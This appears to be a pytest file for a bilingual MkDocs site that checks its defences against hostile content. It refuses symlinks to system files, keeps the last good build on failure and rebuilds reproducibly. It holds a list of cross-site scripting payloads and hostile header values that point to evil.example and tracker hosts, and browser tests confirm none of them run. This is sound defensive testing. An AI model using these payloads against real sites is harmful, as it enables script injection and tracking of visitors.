"""What the site guarantees against hostile or careless content, end to end: files it refuses, a failed
build that keeps the last good site, the same site from the same sources, and pages built from hostile
content that run no script and load nothing from elsewhere in a real browser."""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import ROOT, article, built_once, copy_fixture_site, mkdocs_build, operator_section, page

from kbm.collection import load_collection
from kbm.problems import ContentError

CASE = "docs/praxisbeispiele/halle-bildungskonferenz.de.md"


def problems_of(site: Path) -> list[str]:
    try:
        load_collection(site)
    except ContentError as error:
        return [str(p) for p in error.problems]
    return []


@pytest.mark.parametrize(
    "link, target",
    [
        ("docs/leak.de.md", "/etc/os-release"),
        ("docs/assets/passwd", "/etc/passwd"),
        ("bausteine/geheim.de.md", "/etc/hostname"),
        ("docs/assets/bilder", "/etc"),
    ],
)
def test_a_symbolic_link_anywhere_in_the_content_is_refused(tmp_path, link, target):
    site = copy_fixture_site(tmp_path / "site")
    (site / link).parent.mkdir(parents=True, exist_ok=True)
    (site / link).symlink_to(target)
    assert problems_of(site) == [
        f"{link}: this is a symbolic link: the site publishes only files kept in the "
        "repository itself. Replace the link with the file, or delete it"
    ]


def test_an_image_in_the_image_folder_is_published_and_linked(tmp_path):
    site = copy_fixture_site(tmp_path / "site")
    (site / "docs/assets/bilder").mkdir(parents=True)
    (site / "docs/assets/bilder/karte.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    case = site / CASE
    case.write_text(
        case.read_text(encoding="utf-8").replace(
            "Deutscher Text.", "Deutscher Text.\n\n![Karte der Stadt](../assets/bilder/karte.png)"
        ),
        encoding="utf-8",
    )
    assert problems_of(site) == []
    out = tmp_path / "out"
    assert mkdocs_build(site / "mkdocs.yml", out).returncode == 0
    assert '<img alt="Karte der Stadt" src="../../assets/bilder/karte.png"' in article(
        page(out, "/praxisbeispiele/halle-bildungskonferenz/")
    )


UNTRANSLATED = "docs/praxisbeispiele/grenzenlos-lernen.de.md"


def test_links_are_checked_in_every_language_and_in_the_same_run_as_other_problems(tmp_path):
    site = copy_fixture_site(tmp_path / "site")
    case = site / CASE
    case.write_text(
        case.read_text(encoding="utf-8").replace("status: abgeschlossen", "status: fertig"), encoding="utf-8"
    )
    german_only = site / UNTRANSLATED
    text = german_only.read_text(encoding="utf-8")
    link_line = text.split("\n").index("## Ausgangslage") + 3
    german_only.write_text(
        text.replace(
            "## Ausgangslage\n\n",
            "## Ausgangslage\n\n"
            "Siehe [Halle](halle-bildungskonferenz.md), [Einleitung](../bausteine/externe-kooperation.md#einleitung) "
            "und [fehlt](fehlt.md).\n",
            1,
        ),
        encoding="utf-8",
    )
    found = problems_of(site)
    assert [p for p in found if p.startswith(UNTRANSLATED)] == [
        f"{UNTRANSLATED}:{link_line}: text: the page '../bausteine/externe-kooperation.md' has no section "
        "'#einleitung' "
        "on the English site: its sections are #external-cooperation, #implementation, #introduction, "
        "#practice-examples-for-this-baustein, #related-bausteine, #self-assessment, #sources",
        f"{UNTRANSLATED}:{link_line}: text: there is no page or file 'fehlt.md' "
        "(looked for docs/praxisbeispiele/fehlt.md)",
    ]
    assert any(p.startswith(f"{CASE}:") and "unknown status 'fertig'" in p for p in found)


def test_the_strict_build_refuses_the_anchor_the_validator_refuses(tmp_path):
    site = copy_fixture_site(tmp_path / "site")
    german_only = site / UNTRANSLATED
    german_only.write_text(
        german_only.read_text(encoding="utf-8").replace(
            "## Ausgangslage\n\n",
            "## Ausgangslage\n\n[Einleitung](../bausteine/externe-kooperation.md#einleitung)\n\n",
            1,
        ),
        encoding="utf-8",
    )
    assert any("has no section '#einleitung' on the English site" in p for p in problems_of(site))
    # The same page without the validator's link check: MkDocs itself fails the English build.
    result = mkdocs_build(site / "mkdocs.yml", tmp_path / "out", switch_off="links")
    assert result.returncode != 0 and "einleitung" in result.stderr


@pytest.mark.parametrize("title", ["2026-11-20", "2026-02-30"])
def test_a_header_value_yaml_reads_as_a_date_is_shown_as_written(tmp_path, title):
    """MkDocs reads 2026-11-20 as a date and cannot read 2026-02-30 at all (it would publish the whole header as
    text); the site renders the header and text as the validator read them."""
    site = copy_fixture_site(tmp_path / "site")
    case = site / CASE
    case.write_text(
        case.read_text(encoding="utf-8").replace('title: "Halle (Saale): Bildungskonferenz"', f"title: {title}"),
        encoding="utf-8",
    )
    assert problems_of(site) == []
    out = tmp_path / "out"
    result = mkdocs_build(site / "mkdocs.yml", out)
    assert result.returncode == 0, result.stderr
    html = page(out, "/praxisbeispiele/halle-bildungskonferenz/")
    assert f"<title>{title} - Fixture</title>" in html and f">{title}</h1>" in article(html)
    assert "summary:" not in article(html) and "regions:" not in article(html)


def test_a_legal_page_links_and_anchors_are_checked_with_the_operators_details_in_place(tmp_path):
    site = copy_fixture_site(tmp_path / "site")
    config = site / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8") + operator_section(), encoding="utf-8")
    legal = site / "docs/impressum.de.md"
    legal.write_text(
        legal.read_text(encoding="utf-8") + "\n## Kontakt {{ operator.city }}\n\n"
        "Schreiben Sie an {{ operator.email }}. [Quelltext]({{ operator.repository }}), "
        "[nach oben](#kontakt-musterstadt)\n",
        encoding="utf-8",
    )
    assert problems_of(site) == []
    result = mkdocs_build(config, tmp_path / "out")
    assert result.returncode == 0, result.stderr
    html = article(page(tmp_path / "out", "/impressum/"))
    assert 'id="kontakt-musterstadt"' in html and "bildungsbuero@musterlandkreis.example" in html


@pytest.mark.parametrize(
    "around",
    [
        "{{ operator.phone }}23",
        "Tel. 0{{ operator.postcode }} 98765",
        "{{ operator.email }}.de und privat max@example.org",
    ],
)
def test_the_operators_details_do_not_let_other_contact_data_through(tmp_path, around):
    site = copy_fixture_site(tmp_path / "site")
    config = site / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8") + operator_section(), encoding="utf-8")
    legal = site / "docs/impressum.de.md"
    legal.write_text(legal.read_text(encoding="utf-8") + f"\nSie erreichen uns unter {around}.\n", encoding="utf-8")
    found = problems_of(site)
    assert found and all(p.startswith("docs/impressum.de.md:10: text:") and "personal data" in p for p in found), found


def build_script(site: Path, out: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}
    return subprocess.run(
        [sys.executable, str(ROOT / "scripts/build.py"), "--out", str(out), "--config", str(site / "mkdocs.yml")],
        capture_output=True,
        text=True,
        env=env,
    )


def fingerprint(folder: Path) -> dict[str, str]:
    return {
        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def test_a_failed_build_keeps_the_last_good_site(tmp_path):
    site = copy_fixture_site(tmp_path / "site")
    out = tmp_path / "public"
    assert build_script(site, out).returncode == 0
    good = fingerprint(out)
    assert "praxisbeispiele/halle-bildungskonferenz/index.html" in good
    # A content error, and a link error that strict mode counts only after every page is written.
    case = site / CASE
    for broken in (
        case.read_text(encoding="utf-8").replace("status: abgeschlossen", "status: fertig"),
        case.read_text(encoding="utf-8").replace("Deutscher Text.", "[Weg](../gibt-es-nicht.md)"),
    ):
        case.write_text(broken, encoding="utf-8")
        result = build_script(site, out)
        assert result.returncode != 0
        assert "the last good site" in result.stderr and "is unchanged" in result.stderr
        assert fingerprint(out) == good
    assert sorted(p.name for p in tmp_path.iterdir()) == ["public", "site"], "a temporary folder was left behind"


def test_the_same_sources_give_the_same_site(tmp_path):
    site = copy_fixture_site(tmp_path / "site")
    builds = []
    for name in ("one", "two"):
        assert mkdocs_build(site / "mkdocs.yml", tmp_path / name).returncode == 0
        builds.append(fingerprint(tmp_path / name))
    assert builds[0] == builds[1]
    sitemap = (tmp_path / "one/sitemap.xml").read_text(encoding="utf-8")
    assert "<lastmod>2026-11-20</lastmod>" in sitemap, "a case's date in the sitemap is its „Stand“"
    assert set(re.findall(r"<lastmod>([^<]+)</lastmod>", sitemap)) <= {
        "2026-11-20",
        "2026-11-01",
        "2026-10-01",
        "2026-09-01",
    }


def test_a_marker_written_into_a_case_by_hand_changes_nothing_on_the_page(tmp_path):
    site = copy_fixture_site(tmp_path / "site")
    case = site / CASE
    case.write_text(
        case.read_text(encoding="utf-8").replace(
            "Deutscher Text.", "Deutscher Text.\n\n<!--kbm-slot:0-->\n\n<!--kbm-slot:99-->"
        ),
        encoding="utf-8",
    )
    assert problems_of(site) == []
    out = tmp_path / "out"
    assert mkdocs_build(site / "mkdocs.yml", out).returncode == 0
    html = article(page(out, "/praxisbeispiele/halle-bildungskonferenz/"))
    assert html.count('class="kbm-facts"') == 1 and "kbm-slot" not in html


# ---- a site built from hostile content, with the validator's text rules switched off -------------------

PAYLOADS = [
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('img')>",
    "<svg/onload=alert('svg')>",
    '<iframe src="https://evil.example/"></iframe>',
    "<details open ontoggle=alert('toggle')>x</details>",
    '<a href="&#106;avascript:alert(1)">entity</a>',
    "[md](javascript:alert('md'))",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "![pixel](https://tracker.example/p.gif)",
    '<img src="../assets/x.png" srcset="https://tracker.example/p.gif 2x">',
    '<video src="https://tracker.example/v.mp4" autoplay></video>',
    '<span style="background:url(https://tracker.example/p.gif)">css</span>',
    'Absatz\n{: onclick="alert(\'attr\')" style="background:url(https://tracker.example/q.gif)" }',
    '<span id="__config">{}</span>',
    "<form action=https://evil.example/><input name=q></form>",
    '<object data="https://evil.example/x.swf"></object>',
    "<div>\n`<script>alert('block')</script>`\n</div>",
    "<style>body{background:url(https://tracker.example/s.gif)}</style>",
    "<!--kbm-slot:0-->",
]
HEADER = {
    'title: "Halle (Saale): Bildungskonferenz"': (
        "title: \"Halle <img src=x onerror=alert('title')> { onclick=alert(1) }\""
    ),
    "summary: Die Stadt lädt jährlich zur Bildungskonferenz ein.": 'summary: \'x"><script>alert("summary")</script>\'',
    "    name: Halle (Saale)": "    name: \"Halle <svg onload=alert('region')>\"",
    "  - Stiftung Beispiel": "  - \"Stiftung </title><script>alert('partner')</script>\"",
    "  - title: Pressemitteilung der Stadt": '  - title: "Presse <img src=https://tracker.example/t.gif>"',
    "    url: https://halle.example/presse": '    url: "https://duisburg.example/x)![p](https://tracker.example/u.gif"',
}


@pytest.fixture(scope="session")
def hostile_site(tmp_path_factory) -> Path:
    return built_once(tmp_path_factory, "hostile", build_hostile_site) / "site"


def build_hostile_site(folder: Path) -> None:
    site = copy_fixture_site(folder / "sources")
    config = site / "mkdocs.yml"
    payload = "\n\n".join(PAYLOADS)
    case = site / CASE
    text = case.read_text(encoding="utf-8").replace("Deutscher Text.", payload)
    for old, new in HEADER.items():
        text = text.replace(old, new)
    case.write_text(text, encoding="utf-8")
    english = site / CASE.replace(".de.md", ".en.md")
    english.write_text(
        english.read_text(encoding="utf-8")
        .replace("English text.", payload)
        .replace('title: "Halle (Saale): education conference"', "title: \"Halle <img src=x onerror=alert('en')>\""),
        encoding="utf-8",
    )
    baustein = site / "bausteine/koordination.de.md"
    baustein.write_text(
        baustein.read_text(encoding="utf-8")
        .replace("Nur auf Deutsch.", payload)
        .replace(
            "self_assessment: [Eins., Zwei., Drei., Vier.]",
            "self_assessment: [\"<img src=x onerror=alert('stage')>\", Zwei., Drei., Vier.]",
        ),
        encoding="utf-8",
    )
    result = mkdocs_build(config, folder / "site", switch_off="text,policy")
    assert result.returncode == 0, result.stderr


HOSTILE_PAGES = [
    "",
    "praxisbeispiele/",
    "praxisbeispiele/halle-bildungskonferenz/",
    "bausteine/",
    "bausteine/koordination/",
    "bausteine/externe-kooperation/",
    "themen/",
    "themen/bildungsuebergaenge/",
    "lebensphasen/schule/",
    "regionen/",
    "regionen/de-st/",
    "suche/#q=Halle",
    "glossar/",
    "gibt-es-nicht/",
]


def test_hostile_content_reaches_the_pages_only_as_text(hostile_site):
    html = page(hostile_site, "/praxisbeispiele/halle-bildungskonferenz/")
    head = html.split("</head>")[0]
    assert (
        "<title>Halle &lt;img src=x onerror=alert(&#x27;title&#x27;)&gt; { onclick=alert(1) } - Fixture</title>" in head
    )
    assert (
        '<meta name="description" content="x&quot;&gt;&lt;script&gt;alert(&quot;summary&quot;)&lt;/script&gt;">' in head
    )
    assert not re.search(
        r"<(script|iframe|object|base|meta http|link rel=.stylesheet|form|svg|video|style)\b", article(html), re.I
    )
    assert not re.search(r"<[^>]*\son[a-z]+\s*=", article(html)), "a handler survived as markup"
    assert "Halle &lt;img src=x onerror=alert('title')&gt; { onclick=alert(1) }" in article(html)


@pytest.mark.parametrize("lang", ["", "en/"])
@pytest.mark.parametrize("path", HOSTILE_PAGES)
def test_hostile_content_runs_no_script_and_loads_nothing_from_elsewhere(tab, hostile_server, lang, path):
    opened = tab(hostile_server.url + "/" + lang + path)
    opened.page.wait_for_timeout(100)  # time for anything a page might have scheduled after loading
    assert opened.dialogs == [], f"a script ran: {opened.dialogs}"
    foreign = [url for url in opened.requests if not url.startswith(hostile_server.url)]
    assert foreign == [], f"requests to other hosts: {foreign}"
    found = opened.page.evaluate("""() => {
        const bad = [];
        for (const el of document.querySelectorAll('*')) {
            const content = el.closest('.md-content') !== null;
            for (const attr of el.attributes) {
                const value = attr.value.trim().toLowerCase();
                if (attr.name.startsWith('on')) bad.push(el.tagName + ' ' + attr.name);
                if (!content) continue;  // the theme's own links (canonical address, alternates) name the site
                if (['href', 'src', 'srcset', 'action', 'data', 'poster', 'formaction'].includes(attr.name)
                        && (value.startsWith('javascript:')
                            || /(^|\\s|,)(https?:)?\\/\\/(?!127\\.0\\.0\\.1)/.test(value))
                        && !(el.tagName === 'A' && attr.name === 'href' && value.startsWith('https://')))
                    bad.push(el.tagName + ' ' + attr.name + '=' + value);
                if (attr.name === 'style' && value.includes('url(')) bad.push(el.tagName + ' style');
            }
        }
        for (const el of document.querySelectorAll('base, '
                + 'meta[http-equiv]:not([http-equiv="Content-Security-Policy"]), iframe, object, embed, '
                + 'form:not(#kbm-finder):not(.kbm-header-search), svg script, '
                + '.md-content style, .md-content link, .md-content script'))
            bad.push(el.outerHTML.slice(0, 80));
        return bad;
    }""")
    assert found == [], found


@pytest.fixture(scope="session")
def hostile_server(hostile_site):
    from local_site import SiteServer

    with SiteServer(hostile_site) as running:
        yield running


def test_the_content_security_policy_stops_what_got_into_a_page_anyway(visit, fixture_site, tmp_path):
    """The last line of defence, on its own: a script and a foreign image put into a built page by hand."""
    from local_site import SiteServer

    site = tmp_path / "site"
    shutil.copytree(fixture_site, site)
    target = site / "praxisbeispiele/halle-bildungskonferenz/index.html"
    html = target.read_text(encoding="utf-8")
    assert 'http-equiv="Content-Security-Policy"' in html
    target.write_text(
        html.replace(
            "</article>", "<script>alert('injected')</script><img src=\"https://tracker.example/p.gif\"></article>"
        ),
        encoding="utf-8",
    )
    with SiteServer(site) as server:
        opened = visit(server.url + "/praxisbeispiele/halle-bildungskonferenz/")
        opened.page.wait_for_timeout(300)
    assert opened.dialogs == []
    assert opened.failed.get("https://tracker.example/p.gif") == "csp", "the browser itself refused the foreign image"
    assert any("Content Security Policy" in error for error in opened.errors), opened.errors
